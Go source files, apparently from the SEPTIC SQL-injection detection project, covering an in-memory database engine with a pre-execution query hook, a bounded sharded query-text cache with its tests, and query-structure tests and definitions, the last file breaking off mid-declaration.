// another. The hook and the activity counters are atomic: the hot path
// takes no engine-level write lock.
type DB struct {
	catalog sync.RWMutex
	tables  map[string]*Table

	// hook holds the installed QueryHook (possibly a nil interface);
	// a nil pointer means WithQueryHook was never called.
	hook  atomic.Pointer[QueryHook]
	clock func() time.Time

	// parsed caches parse results by raw query text, so a repeated
	// statement skips lexing and parsing entirely. Cached ASTs are
	// shared — the no-args execution path and the hook only read them;
	// ExecArgs clones before binding (see exec).
	parsed   *txtcache.Cache[*parsedQuery]
	parseCap int

	executed atomic.Int64
	blocked  atomic.Int64
	failed   atomic.Int64

	// obsHub enables instrumentation; stage (resolved once in New) holds
	// the histogram handles so exec never touches the registry map. Both
	// are nil when observability is off — exec checks db.stage once.
	obsHub *obs.Hub
	stage  *stageHists
}

// stageHists are the pipeline's latency histograms: one per stage, the
// parse stage split by parse-cache outcome (a hit skips lex+parse), plus
// the whole-pipeline total.
type stageHists struct {
	parseHit  *obs.Histogram
	parseMiss *obs.Histogram
	validate  *obs.Histogram
	hook      *obs.Histogram
	execute   *obs.Histogram
	total     *obs.Histogram
}

// parsedQuery is one memoized parse: the statement, the decoded text the
// parser consumed, and the extracted comments. All three are immutable
// after insertion.
type parsedQuery struct {
	stmt     sqlparser.Statement
	decoded  string
	comments []string
}

// New creates an empty database.
func New(opts ...Option) *DB {
	db := &DB{
		tables:   make(map[string]*Table),
		clock:    time.Now,
		parseCap: DefaultParseCacheCapacity,
	}
	for _, o := range opts {
		o(db)
	}
	db.parsed = txtcache.New[*parsedQuery](db.parseCap)
	if db.obsHub != nil {
		m := db.obsHub.Metrics
		db.stage = &stageHists{
			parseHit:  m.Histogram("engine.stage.parse.cache_hit"),
			parseMiss: m.Histogram("engine.stage.parse.cache_miss"),
			validate:  m.Histogram("engine.stage.validate"),
			hook:      m.Histogram("engine.stage.hook"),
			execute:   m.Histogram("engine.stage.execute"),
			total:     m.Histogram("engine.stage.total"),
		}
		m.GaugeFunc("engine.executed", db.executed.Load)
		m.GaugeFunc("engine.blocked", db.blocked.Load)
		m.GaugeFunc("engine.failed", db.failed.Load)
		m.GaugeFunc("engine.parse_cache.entries", func() int64 { return int64(db.parsed.Stats().Entries) })
		m.GaugeFunc("engine.parse_cache.hits", func() int64 { return db.parsed.Stats().Hits })
		m.GaugeFunc("engine.parse_cache.misses", func() int64 { return db.parsed.Stats().Misses })
		m.GaugeFunc("engine.parse_cache.evictions", func() int64 { return db.parsed.Stats().Evictions })
	}
	return db
}

// SetHook replaces the query hook at runtime (used when the demo flips
// SEPTIC between modes and "restarts MySQL").
func (db *DB) SetHook(h QueryHook) {
	db.hook.Store(&h)
}

// Stats returns a snapshot of the engine counters.
func (db *DB) Stats() Stats {
	return Stats{
		Executed: db.executed.Load(),
		Blocked:  db.blocked.Load(),
		Failed:   db.failed.Load(),
	}
}

// Result is the outcome of one statement.
type Result struct {
	// Columns are the result column names for row-returning statements.
	Columns []string
	// Rows are the result rows.
	Rows [][]Value
	// Affected is the number of rows written by DML.
	Affected int64
	// LastInsertID is the last AUTO_INCREMENT value an INSERT produced.
	LastInsertID int64
}

// Exec parses, validates, hooks and executes one SQL statement.
func (db *DB) Exec(query string) (*Result, error) {
	return db.exec(context.Background(), query, "", nil)
}

// ExecArgs executes a parameterized statement: every '?' placeholder in
// the query is bound to the corresponding value from args after parsing.
// Because binding happens in the AST — never by text substitution — the
// query's structure is fixed before user data enters it. This is the
// engine's "prepared statement" path, the textbook-safe alternative the
// paper's vulnerable applications fail to use.
func (db *DB) ExecArgs(query string, args ...Value) (*Result, error) {
	return db.exec(context.Background(), query, "", args)
}

// ExecContext is Exec with a deadline: cancellation is checked between
// pipeline stages (parse → validate → hook → execute), so a query whose
// context expires — the server's per-query timeout, a canceled client —
// returns ctx.Err() at the next stage boundary instead of running to
// completion. A stage already in flight is not interrupted; the bound is
// one stage's latency, which is what lets a hung protection path be
// timed out without killing its goroutine.
func (db *DB) ExecContext(ctx context.Context, query string) (*Result, error) {
	return db.exec(ctx, query, "", nil)
}

// ExecArgsContext is ExecArgs with a deadline (see ExecContext).
func (db *DB) ExecArgsContext(ctx context.Context, query string, args ...Value) (*Result, error) {
	return db.exec(ctx, query, "", args)
}

// ExecAppContext executes one statement on behalf of a session-declared
// application: app is handed to the query hook as HookContext.App, where
// SEPTIC uses it to route the query to the application's protection
// domain. An empty app is exactly ExecArgsContext. Calling with zero
// args keeps the no-args execution path (shared cached AST, no clone):
// the variadic parameter is a nil slice then, and exec distinguishes
// nil from empty.
func (db *DB) ExecAppContext(ctx context.Context, app, query string, args ...Value) (*Result, error) {
	return db.exec(ctx, query, app, args)
}

// stageErr reports a context that died between pipeline stages.
func (db *DB) stageErr(ctx context.Context, stage string) error {
	if err := ctx.Err(); err != nil {
		db.countFailed()
		return fmt.Errorf("query aborted before %s: %w", stage, err)
	}
	return nil
}

func (db *DB) exec(ctx context.Context, query, app string, args []Value) (*Result, error) {
	// Stage timing rides on one pointer check: st is nil with obs off, and
	// every Observe below is nil-receiver-safe. Boundaries are sampled
	// once per stage (start reused as the next stage's origin), so the
	// enabled cost is one time.Now per stage.
	st := db.stage
	var stageStart, execStart time.Time
	if st != nil {
		execStart = time.Now()
		stageStart = execStart
	}
	faultinject.Hit(faultinject.SiteEngineParse)
	if err := db.stageErr(ctx, "parse"); err != nil {
		return nil, err
	}
	// Parse cache: a byte-identical repeat of a statement text reuses the
	// memoized AST, decoded text and comments. The cached AST is shared
	// between sessions, which is safe because every execution path only
	// reads it — the one mutator is bindArgs, and the args path works on
	// a deep clone. Parse errors are not cached: a failing text re-parses
	// (and re-fails) each time, keeping the cache free of junk keys.
	pq, cached := db.parsed.Get(query)
	if !cached {
		decoded := sqlparser.DecodeCharset(query)
		stmt, err := sqlparser.Parse(query)
		if err != nil {
			db.countFailed()
			return nil, fmt.Errorf("parse: %w", err)
		}
		pq = &parsedQuery{stmt: stmt, decoded: decoded, comments: stmt.StatementComments()}
		db.parsed.Put(query, pq)
	}
	stmt := pq.stmt
	if args != nil {
		// Clone before binding: binding rewrites placeholder nodes in
		// place, and the cached AST must stay pristine for other sessions.
		stmt = sqlparser.Clone(stmt)
		if err := bindArgs(stmt, args); err != nil {
			db.countFailed()
			return nil, err
		}
	}
	if st != nil {
		now := time.Now()
		if cached {
			st.parseHit.Observe(now.Sub(stageStart))
		} else {
			st.parseMiss.Observe(now.Sub(stageStart))
		}
		stageStart = now
	}
	faultinject.Hit(faultinject.SiteEngineValidate)
	if err := db.stageErr(ctx, "validate"); err != nil {
		return nil, err
	}
	if err := db.validate(stmt); err != nil {
		db.countFailed()
		return nil, err
	}
	if st != nil {
		now := time.Now()
		st.validate.Observe(now.Sub(stageStart))
		stageStart = now
	}

	// SEPTIC's hook point: after validation, before execution (Fig. 1).
	// The hook runs outside the engine lock so detection latency never
	// serializes unrelated sessions.
	faultinject.Hit(faultinject.SiteEngineHook)
	if err := db.stageErr(ctx, "hook"); err != nil {
		return nil, err
	}
	if hook := db.currentHook(); hook != nil {
		hctx := &HookContext{
			Raw:      query,
			Decoded:  pq.decoded,
			Stmt:     stmt,
			Comments: pq.comments,
			App:      app,
		}
		if err := hook.BeforeExecute(hctx); err != nil {
			// A blocked or failed query still had its hook latency — the
			// attack path is exactly what the histogram must show.
			if st != nil {
				st.hook.Observe(time.Since(stageStart))
			}
			// Only a deliberate security drop counts as blocked; a hook
			// infrastructure failure is an ordinary failed query.
			if errors.Is(err, ErrQueryBlocked) {
				db.countBlocked()
			} else {
				db.countFailed()
			}
			return nil, err
		}
	}
	if st != nil {
		now := time.Now()
		st.hook.Observe(now.Sub(stageStart))
		stageStart = now
	}

	faultinject.Hit(faultinject.SiteEngineExecute)
	if err := db.stageErr(ctx, "execute"); err != nil {
		return nil, err
	}
	res, err := db.execute(stmt)
	if err != nil {
		db.countFailed()
		return nil, err
	}
	db.executed.Add(1)
	if st != nil {
		now := time.Now()
		st.execute.Observe(now.Sub(stageStart))
		st.total.Observe(now.Sub(execStart))
	}
	return res, nil
}

func (db *DB) currentHook() QueryHook {
	if p := db.hook.Load(); p != nil {
		return *p
	}
	return nil
}

func (db *DB) countFailed() {
	db.failed.Add(1)
}

func (db *DB) countBlocked() {
	db.blocked.Add(1)
}

// validate checks the statement against the catalog: referenced tables
// must exist and INSERT column lists must match the schema. This is the
// "validated by the DBMS" half of the paper's hook contract.
func (db *DB) validate(stmt sqlparser.Statement) error {
	db.catalog.RLock()
	defer db.catalog.RUnlock()
	switch s := stmt.(type) {
	case *sqlparser.SelectStmt:
		return db.validateSelect(s)
	case *sqlparser.InsertStmt:
		t, ok := db.tables[strings.ToLower(s.Table)]
		if !ok {
			return fmt.Errorf("%w: %s", ErrNoSuchTable, s.Table)
		}
		for _, c := range s.Columns {
			if t.colIndex(c) < 0 {
				return fmt.Errorf("%w: %s.%s", ErrNoSuchColumn, s.Table, c)
			}
		}
		if s.Select != nil {
			return db.validateSelect(s.Select)
		}
		width := len(s.Columns)
		if width == 0 {
			width = len(t.Columns)
		}
		for i, row := range s.Rows {
			if len(row) != width {
				return fmt.Errorf("row %d has %d values, want %d", i+1, len(row), width)
			}
		}
		return nil
	case *sqlparser.UpdateStmt:
		t, ok := db.tables[strings.ToLower(s.Table)]
		if !ok {
			return fmt.Errorf("%w: %s", ErrNoSuchTable, s.Table)
		}
		for _, a := range s.Sets {
			if t.colIndex(a.Column) < 0 {
				return fmt.Errorf("%w: %s.%s", ErrNoSuchColumn, s.Table, a.Column)
			}
		}
		return nil
	case *sqlparser.DeleteStmt:
		if _, ok := db.tables[strings.ToLower(s.Table)]; !ok {
			return fmt.Errorf("%w: %s", ErrNoSuchTable, s.Table)
		}
		return nil
	case *sqlparser.DescribeStmt:
		if _, ok := db.tables[strings.ToLower(s.Table)]; !ok {
			return fmt.Errorf("%w: %s", ErrNoSuchTable, s.Table)
		}
		return nil
	case *sqlparser.ExplainStmt:
		return db.validateSelect(s.Select)
	case *sqlparser.CreateTableStmt:
		if _, ok := db.tables[strings.ToLower(s.Table)]; ok && !s.IfNotExists {
			return fmt.Errorf("%w: %s", ErrTableExists, s.Table)
		}
		return nil
	case *sqlparser.DropTableStmt:
		if _, ok := db.tables[strings.ToLower(s.Table)]; !ok && !s.IfExists {
			return fmt.Errorf("%w: %s", ErrNoSuchTable, s.Table)
		}
		return nil
	default:
		return nil
	}
}

func (db *DB) validateSelect(s *sqlparser.SelectStmt) error {
	for _, t := range s.From {
		if t.Subquery != nil {
			if err := db.validateSelect(t.Subquery); err != nil {
				return err
			}
			continue
		}
		if _, ok := db.tables[strings.ToLower(t.Name)]; !ok {
			return fmt.Errorf("%w: %s", ErrNoSuchTable, t.Name)
		}
	}
	if s.Union != nil {
		return db.validateSelect(s.Union.Next)
	}
	return nil
}

// execute acquires the statement's lock plan and dispatches to the
// per-statement executors. DDL serializes on the catalog write lock;
// everything else shares the catalog and locks only the tables it
// touches (lockplan.go), so sessions on disjoint tables never contend.
func (db *DB) execute(stmt sqlparser.Statement) (*Result, error) {
	switch s := stmt.(type) {
	case *sqlparser.CreateTableStmt:
		db.catalog.Lock()
		defer db.catalog.Unlock()
		return db.execCreateTable(s)
	case *sqlparser.DropTableStmt:
		db.catalog.Lock()
		defer db.catalog.Unlock()
		return db.execDropTable(s)
	case *sqlparser.ShowTablesStmt:
		db.catalog.RLock()
		defer db.catalog.RUnlock()
		return db.execShowTables()
	}

	var ls lockSet
	ls.init()
	collectTables(&ls, stmt)
	db.catalog.RLock()
	defer db.catalog.RUnlock()
	db.lockTables(&ls)
	defer db.unlockTables(&ls)

	switch s := stmt.(type) {
	case *sqlparser.SelectStmt:
		return db.execSelect(s, nil)
	case *sqlparser.InsertStmt:
		return db.execInsert(s)
	case *sqlparser.UpdateStmt:
		return db.execUpdate(s)
	case *sqlparser.DeleteStmt:
		return db.execDelete(s)
	case *sqlparser.DescribeStmt:
		return db.execDescribe(s)
	case *sqlparser.ExplainStmt:
		return db.execExplain(s)
	default:
		return nil, fmt.Errorf("unsupported statement %T", stmt)
	}
}

func (db *DB) execShowTables() (*Result, error) {
	names := make([]string, 0, len(db.tables))
	for _, t := range db.tables {
		names = append(names, t.Name)
	}
	sort.Strings(names)
	res := &Result{Columns: []string{"Tables"}}
	for _, n := range names {
		res.Rows = append(res.Rows, []Value{Str(n)})
	}
	return res, nil
}

func (db *DB) execDescribe(s *sqlparser.DescribeStmt) (*Result, error) {
	t := db.tables[strings.ToLower(s.Table)]
	if t == nil {
		return nil, fmt.Errorf("%w: %s", ErrNoSuchTable, s.Table)
	}
	res := &Result{Columns: []string{"Field", "Type", "Null", "Key", "Extra"}}
	for _, c := range t.Columns {
		null := "YES"
		if c.NotNull {
			null = "NO"
		}
		key := ""
		if c.PrimaryKey {
			key = "PRI"
		} else if c.Unique {
			key = "UNI"
		}
		extra := ""
		if c.AutoIncrement {
			extra = "auto_increment"
		}
		res.Rows = append(res.Rows, []Value{
			Str(c.Name), Str(c.Type.String()), Str(null), Str(key), Str(extra),
		})
	}
	return res, nil
}

func (db *DB) execCreateTable(s *sqlparser.CreateTableStmt) (*Result, error) {
	key := strings.ToLower(s.Table)
	if _, ok := db.tables[key]; ok {
		if s.IfNotExists {
			return &Result{}, nil
		}
		return nil, fmt.Errorf("%w: %s", ErrTableExists, s.Table)
	}
	t, err := newTable(s)
	if err != nil {
		return nil, err
	}
	db.tables[key] = t
	return &Result{}, nil
}

func (db *DB) execDropTable(s *sqlparser.DropTableStmt) (*Result, error) {
	key := strings.ToLower(s.Table)
	if _, ok := db.tables[key]; !ok {
		if s.IfExists {
			return &Result{}, nil
		}
		return nil, fmt.Errorf("%w: %s", ErrNoSuchTable, s.Table)
	}
	delete(db.tables, key)
	return &Result{}, nil
}

// bindArgs substitutes positional args for the '?' placeholders of a
// parsed statement, in source order.
func bindArgs(stmt sqlparser.Statement, args []Value) error {
	n := 0
	err := sqlparser.RewriteExprs(stmt, func(e sqlparser.Expr) (sqlparser.Expr, error) {
		if _, ok := e.(*sqlparser.Placeholder); !ok {
			return e, nil
		}
		if n >= len(args) {
			return nil, fmt.Errorf("not enough arguments: placeholder %d of %d bound", n+1, len(args))
		}
		v := args[n]
		n++
		return valueLiteral(v), nil
	})
	if err != nil {
		return err
	}
	if n != len(args) {
		return fmt.Errorf("too many arguments: %d placeholders, %d args", n, len(args))
	}
	return nil
}

func valueLiteral(v Value) *sqlparser.Literal {
	switch v.Kind {
	case KindInt:
		return &sqlparser.Literal{Kind: sqlparser.LiteralInt, Int: v.I}
	case KindFloat:
		return &sqlparser.Literal{Kind: sqlparser.LiteralFloat, Float: v.F}
	case KindString:
		return &sqlparser.Literal{Kind: sqlparser.LiteralString, Str: v.S}
	case KindBool:
		return &sqlparser.Literal{Kind: sqlparser.LiteralBool, Bool: v.B}
	default:
		return &sqlparser.Literal{Kind: sqlparser.LiteralNull}
	}
}
