// Package txtcache provides a sharded, bounded, string-keyed cache with
// second-chance ("clock") eviction. It is the memoization substrate for
// the hot paths that see the same query text over and over: the engine's
// parse cache and SEPTIC's verdict cache both build on it.
//
// Design constraints, in order:
//
//   - A hit must be allocation-free: Get takes a shard read-lock for one
//     map probe, reads the value, and touches only an atomic reference
//     bit afterwards. Repeated queries from parallel sessions land on
//     independent shards and never serialize on one lock.
//   - Memory is bounded: a flood of unique keys (an adversary generating
//     never-repeating queries) evicts instead of growing. New entries are
//     inserted with the reference bit clear, so a scan of one-shot keys
//     cannibalizes itself and leaves frequently-hit entries resident —
//     the classic second-chance scan resistance.
//   - Values are published once and treated as immutable by readers;
//     callers that need to replace a value Put a fresh one.
package txtcache

import (
	"sync"
	"sync/atomic"
)

// shardCount partitions the key space so unrelated sessions rarely touch
// the same lock. Kept equal to the model store's shard count: the same
// reasoning (the critical section is a map probe, the win is cacheline
// spread) applies.
const shardCount = 16

// Cache is a bounded string-keyed cache. The zero value is not usable;
// construct with New.
type Cache[V any] struct {
	shards   [shardCount]shard[V]
	perShard int

	hits      atomic.Int64
	misses    atomic.Int64
	evictions atomic.Int64
}

type shard[V any] struct {
	mu sync.RWMutex
	m  map[string]*entry[V]
	// ring is the clock: every resident entry occupies one slot, and the
	// hand sweeps it looking for an unreferenced victim.
	ring []*entry[V]
	hand int
}

type entry[V any] struct {
	key string
	val V
	// ref is the second-chance bit: set on every hit, cleared by the
	// sweeping hand, entries found clear are evicted.
	ref atomic.Bool
}

// New builds a cache bounded to roughly capacity entries (rounded up to a
// multiple of the shard count). A capacity of zero disables the cache:
// Get always misses and Put is a no-op, which gives callers a natural
// off switch for ablation benchmarks.
func New[V any](capacity int) *Cache[V] {
	c := &Cache[V]{}
	if capacity > 0 {
		c.perShard = (capacity + shardCount - 1) / shardCount
	}
	for i := range c.shards {
		c.shards[i].m = make(map[string]*entry[V])
	}
	return c
}

// shardOf hashes the key (inline FNV-1a, no allocation) to its shard.
// Only the length and the final 16 bytes are hashed: shard selection
// needs consistency and spread, not full coverage, and for query texts
// the tail (literal values, trailing clauses) is the discriminating part
// while the head ("SELECT * FROM …") is shared boilerplate. Capping the
// loop keeps Get O(1) in key length on the hit path.
func (c *Cache[V]) shardOf(key string) *shard[V] {
	const fnvPrime = 16777619
	h := uint32(2166136261)
	h ^= uint32(len(key))
	h *= fnvPrime
	i := 0
	if len(key) > 16 {
		i = len(key) - 16
	}
	for ; i < len(key); i++ {
		h ^= uint32(key[i])
		h *= fnvPrime
	}
	return &c.shards[h%shardCount]
}

// Get returns the cached value for key. A hit marks the entry referenced
// so the clock hand passes over it once before eviction.
func (c *Cache[V]) Get(key string) (V, bool) {
	var zero V
	if c.perShard == 0 {
		c.misses.Add(1)
		return zero, false
	}
	sh := c.shardOf(key)
	sh.mu.RLock()
	e, ok := sh.m[key]
	if !ok {
		sh.mu.RUnlock()
		c.misses.Add(1)
		return zero, false
	}
	v := e.val
	sh.mu.RUnlock()
	// Checking before storing keeps the steady state (hot entry, bit
	// already set) free of cross-core cacheline writes.
	if !e.ref.Load() {
		e.ref.Store(true)
	}
	c.hits.Add(1)
	return v, true
}

// Put inserts or replaces the value for key, evicting a victim via the
// clock sweep when the shard is full.
func (c *Cache[V]) Put(key string, val V) {
	if c.perShard == 0 {
		return
	}
	sh := c.shardOf(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if e, ok := sh.m[key]; ok {
		e.val = val
		e.ref.Store(true)
		return
	}
	// New entries start with the reference bit clear: a burst of one-shot
	// keys then evicts other one-shot keys, not the resident hot set.
	e := &entry[V]{key: key, val: val}
	if len(sh.ring) < c.perShard {
		sh.m[key] = e
		sh.ring = append(sh.ring, e)
		return
	}
	// Clock sweep: clear reference bits until an unreferenced victim
	// turns up. Two full laps always suffice — the first lap clears
	// every bit it does not evict.
	for i := 0; i < 2*len(sh.ring); i++ {
		victim := sh.ring[sh.hand]
		if victim.ref.CompareAndSwap(true, false) {
			sh.hand = (sh.hand + 1) % len(sh.ring)
			continue
		}
		delete(sh.m, victim.key)
		sh.m[key] = e
		sh.ring[sh.hand] = e
		sh.hand = (sh.hand + 1) % len(sh.ring)
		c.evictions.Add(1)
		return
	}
}

// Len returns the number of resident entries.
func (c *Cache[V]) Len() int {
	n := 0
	for i := range c.shards {
		sh := &c.shards[i]
		sh.mu.RLock()
		n += len(sh.m)
		sh.mu.RUnlock()
	}
	return n
}

// Stats is a point-in-time snapshot of the cache counters.
type Stats struct {
	Hits      int64
	Misses    int64
	Evictions int64
	Entries   int
}

// Stats returns the counter snapshot.
func (c *Cache[V]) Stats() Stats {
	return Stats{
		Hits:      c.hits.Load(),
		Misses:    c.misses.Load(),
		Evictions: c.evictions.Load(),
		Entries:   c.Len(),
	}
}

// Capacity returns the configured entry bound (0 when disabled).
func (c *Cache[V]) Capacity() int {
	return c.perShard * shardCount
}
