package txtcache

import (
	"fmt"
	"sync"
	"testing"
)

func TestGetPut(t *testing.T) {
	c := New[int](64)
	if _, ok := c.Get("a"); ok {
		t.Fatal("empty cache hit")
	}
	c.Put("a", 1)
	c.Put("b", 2)
	if v, ok := c.Get("a"); !ok || v != 1 {
		t.Fatalf("Get(a) = %d, %t", v, ok)
	}
	c.Put("a", 3) // overwrite
	if v, _ := c.Get("a"); v != 3 {
		t.Fatalf("after overwrite Get(a) = %d", v)
	}
	if c.Len() != 2 {
		t.Fatalf("Len = %d, want 2", c.Len())
	}
}

func TestZeroCapacityDisables(t *testing.T) {
	c := New[string](0)
	c.Put("a", "x")
	if _, ok := c.Get("a"); ok {
		t.Fatal("disabled cache returned a hit")
	}
	if c.Capacity() != 0 {
		t.Fatalf("Capacity = %d", c.Capacity())
	}
}

func TestBoundedUnderFlood(t *testing.T) {
	const capacity = 128
	c := New[int](capacity)
	for i := 0; i < 100*capacity; i++ {
		c.Put(fmt.Sprintf("key-%d", i), i)
	}
	if n := c.Len(); n > c.Capacity() {
		t.Fatalf("flood grew cache to %d entries, cap %d", n, c.Capacity())
	}
	if s := c.Stats(); s.Evictions == 0 {
		t.Fatalf("flood caused no evictions: %+v", s)
	}
}

// TestSecondChanceKeepsHotEntry: an entry that is hit between floods
// survives eviction pressure that removes one-shot keys, because the
// sweep finds unreferenced cold entries first.
func TestSecondChanceKeepsHotEntry(t *testing.T) {
	const capacity = 256
	c := New[int](capacity)
	c.Put("hot", 42)
	for i := 0; i < 10*capacity; i++ {
		c.Put(fmt.Sprintf("cold-%d", i), i)
		if _, ok := c.Get("hot"); !ok {
			t.Fatalf("hot entry evicted at flood step %d despite constant hits", i)
		}
	}
}

func TestStatsCounts(t *testing.T) {
	c := New[int](64)
	c.Put("a", 1)
	c.Get("a")
	c.Get("a")
	c.Get("missing")
	s := c.Stats()
	if s.Hits != 2 || s.Misses != 1 {
		t.Fatalf("stats = %+v", s)
	}
}

func TestConcurrent(t *testing.T) {
	c := New[int](256)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				key := fmt.Sprintf("key-%d", i%100)
				if i%3 == 0 {
					c.Put(key, i)
				} else {
					c.Get(key)
				}
				if i%7 == 0 {
					c.Put(fmt.Sprintf("unique-%d-%d", g, i), i)
				}
			}
		}(g)
	}
	wg.Wait()
	if n := c.Len(); n > c.Capacity() {
		t.Fatalf("Len = %d exceeds capacity %d", n, c.Capacity())
	}
}
