package qstruct

import (
	"testing"

	"github.com/septic-db/septic/internal/sqlparser"
)

// categoriesOf collects the categories present in a stack.
func categoriesOf(qs Stack) map[Category]int {
	out := make(map[Category]int)
	for _, n := range qs {
		out[n.Cat]++
	}
	return out
}

// TestBuildStackCoversAllCategories drives one query per node category
// so every ELEM/DATA TYPE the comparison can encounter is constructed
// and printable.
func TestBuildStackCoversAllCategories(t *testing.T) {
	cases := []struct {
		query string
		want  []Category
	}{
		{
			"SELECT DISTINCT a, b + 1 FROM t JOIN u ON t.id = u.tid " +
				"WHERE c BETWEEN 1 AND 2.5 AND d IS NOT NULL AND e IN ('x', NULL, TRUE) " +
				"GROUP BY f HAVING COUNT(*) > 0 ORDER BY g DESC LIMIT 10 OFFSET 5",
			[]Category{
				CatDistinct, CatSelectField, CatFromTable, CatJoin, CatField,
				CatFunc, CatCond, CatGroup, CatHaving, CatOrder, CatLimit,
				CatInt, CatReal, CatString, CatBool, CatNull,
			},
		},
		{
			"SELECT id FROM a UNION ALL SELECT id FROM b",
			[]Category{CatUnion},
		},
		{
			"SELECT (SELECT MAX(x) FROM u) FROM t WHERE EXISTS (SELECT 1 FROM w) AND id IN (SELECT k FROM v)",
			[]Category{CatSubBegin, CatSubEnd},
		},
		{
			"SELECT n FROM (SELECT name AS n FROM users) AS d",
			[]Category{CatSubBegin, CatSubEnd},
		},
		{
			"INSERT INTO t (a) SELECT b FROM u",
			[]Category{CatInsertTable, CatInsertField, CatSubBegin, CatSubEnd},
		},
		{
			"INSERT INTO t (a, b) VALUES (1, 'x')",
			[]Category{CatInsertTable, CatInsertField, CatRowBegin, CatInt, CatString},
		},
		{
			"UPDATE t SET a = 1 WHERE b = 2 ORDER BY c LIMIT 3",
			[]Category{CatUpdateTable, CatSetField, CatOrder, CatLimit},
		},
		{
			"DELETE FROM t WHERE a = 1 ORDER BY b LIMIT 2",
			[]Category{CatDeleteTable, CatOrder, CatLimit},
		},
		{
			"CREATE TABLE t (a INT)",
			[]Category{CatDDL},
		},
		{
			"DROP TABLE t",
			[]Category{CatDDL},
		},
		{
			"SHOW TABLES",
			[]Category{CatDDL},
		},
		{
			"DESCRIBE t",
			[]Category{CatDDL},
		},
		{
			"SELECT a FROM t WHERE b = ?",
			[]Category{CatPlaceholder},
		},
		{
			"SELECT NOT a, -b FROM t WHERE NOT (x = 1)",
			[]Category{CatCond, CatFunc},
		},
		{
			"SELECT t.* FROM t",
			[]Category{CatSelectField},
		},
		{
			"SELECT a FROM t ORDER BY CASE WHEN b = 1 THEN a ELSE c END",
			[]Category{CatOrder, CatFunc, CatField},
		},
		{
			"SELECT CASE x WHEN 1 THEN 'one' ELSE 'other' END FROM t",
			[]Category{CatFunc, CatString},
		},
		{
			"SELECT a FROM t WHERE b NOT LIKE 'x%' AND c NOT BETWEEN 1 AND 2 AND d NOT IN (1)",
			[]Category{CatFunc, CatCond},
		},
	}
	for _, tc := range cases {
		stmt, err := sqlparser.Parse(tc.query)
		if err != nil {
			t.Fatalf("Parse(%q): %v", tc.query, err)
		}
		qs := BuildStack(stmt)
		if len(qs) == 0 {
			t.Fatalf("empty stack for %q", tc.query)
		}
		cats := categoriesOf(qs)
		for _, want := range tc.want {
			if cats[want] == 0 {
				t.Errorf("%q: category %s missing from stack:\n%s", tc.query, want, qs)
			}
		}
		// Every stack self-matches and prints.
		if v := Compare(qs, ModelOf(qs)); !v.Match {
			t.Errorf("%q: self-match failed: %+v", tc.query, v)
		}
		if qs.String() == "" {
			t.Errorf("%q: empty rendering", tc.query)
		}
	}
}

func TestCategoryStringsAllNamed(t *testing.T) {
	for c := CatSelectField; c <= CatPlaceholder; c++ {
		s := c.String()
		if s == "" || len(s) > 2 && s[:2] == "Ca" { // "Category(n)" fallback
			t.Errorf("category %d has no display name: %q", int(c), s)
		}
	}
	if CatInvalid.String() != "INVALID" {
		t.Errorf("CatInvalid.String() = %q", CatInvalid.String())
	}
	if Category(999).String() != "Category(999)" {
		t.Errorf("unknown category fallback = %q", Category(999).String())
	}
}

func TestCompareStepStrings(t *testing.T) {
	if StepNone.String() != "none" || StepStructural.String() != "structural" ||
		StepSyntactical.String() != "syntactical" {
		t.Error("step names drifted")
	}
	if CompareStep(9).String() != "CompareStep(9)" {
		t.Errorf("fallback = %q", CompareStep(9).String())
	}
}

func TestDataNodes(t *testing.T) {
	qs := buildQS(t, "SELECT * FROM t WHERE a = 'x' AND b = 7")
	idx := qs.DataNodes()
	if len(idx) != 2 {
		t.Fatalf("data nodes = %v", idx)
	}
	for _, i := range idx {
		if !qs[i].Cat.IsData() {
			t.Errorf("index %d is %s, not a data node", i, qs[i].Cat)
		}
	}
}

func TestNodeString(t *testing.T) {
	n := Node{Cat: CatField, Data: "reservID"}
	if n.String() != "FIELD_ITEM reservID" {
		t.Errorf("Node.String() = %q", n.String())
	}
}

func TestModelString(t *testing.T) {
	qm := ModelOf(buildQS(t, "SELECT a FROM t WHERE b = 1"))
	s := qm.String()
	if s == "" || !containsLine(s, "INT_ITEM ⊥") {
		t.Errorf("Model.String() = %q", s)
	}
}

func containsLine(haystack, line string) bool {
	start := 0
	for i := 0; i <= len(haystack); i++ {
		if i == len(haystack) || haystack[i] == '\n' {
			if haystack[start:i] == line {
				return true
			}
			start = i + 1
		}
	}
	return false
}
