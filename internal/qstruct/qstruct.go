// Package qstruct implements SEPTIC's query representation: the query
// structure (QS) extracted from a validated statement, and the query model
// (QM) learned from it.
//
// The representation mirrors the stack of items MySQL builds while
// validating a query, as shown in Figs. 2–4 of the paper: each node is
// either an element node ⟨ELEM TYPE, ELEM DATA⟩ — a clause marker, field,
// function or operator — or a data node ⟨DATA TYPE, DATA⟩ carrying a
// literal value that (potentially) came from user input. A query model is
// the same stack with every data node's DATA replaced by the special
// value ⊥.
package qstruct

import (
	"encoding/json"
	"fmt"
	"hash/fnv"
	"strconv"
	"strings"
	"sync"

	"github.com/septic-db/septic/internal/sqlparser"
)

// Category is the ELEM/DATA TYPE of a stack node. The names follow the
// MySQL item categories used in the paper (FIELD_ITEM, FUNC_ITEM,
// COND_ITEM, INT_ITEM, STRING_ITEM, SELECT_FIELD, FROM_TABLE, ...).
type Category int

// Node categories. Enums start at 1 so the zero value is invalid.
const (
	CatInvalid Category = iota

	// Element categories (structure; never attacker data).
	CatSelectField // SELECT_FIELD: one projection of a SELECT list
	CatFromTable   // FROM_TABLE: a table in FROM
	CatJoin        // JOIN_ITEM: join type marker
	CatField       // FIELD_ITEM: column reference
	CatFunc        // FUNC_ITEM: operator or function
	CatCond        // COND_ITEM: AND / OR / XOR / NOT
	CatOrder       // ORDER_ITEM
	CatGroup       // GROUP_ITEM
	CatHaving      // HAVING_ITEM
	CatLimit       // LIMIT_ITEM
	CatDistinct    // DISTINCT_ITEM
	CatUnion       // UNION_ITEM
	CatSubBegin    // SUBSELECT_BEGIN
	CatSubEnd      // SUBSELECT_END
	CatInsertTable // INSERT_TABLE
	CatInsertField // INSERT_FIELD: a column of an INSERT column list
	CatRowBegin    // ROW_ITEM: start of one VALUES tuple
	CatUpdateTable // UPDATE_TABLE
	CatSetField    // SET_FIELD: assigned column of an UPDATE
	CatDeleteTable // DELETE_TABLE
	CatDDL         // DDL_ITEM: CREATE/DROP/SHOW/DESCRIBE marker

	// Data categories (literal values; the QM blanks their data to ⊥).
	CatInt         // INT_ITEM
	CatReal        // REAL_ITEM
	CatString      // STRING_ITEM
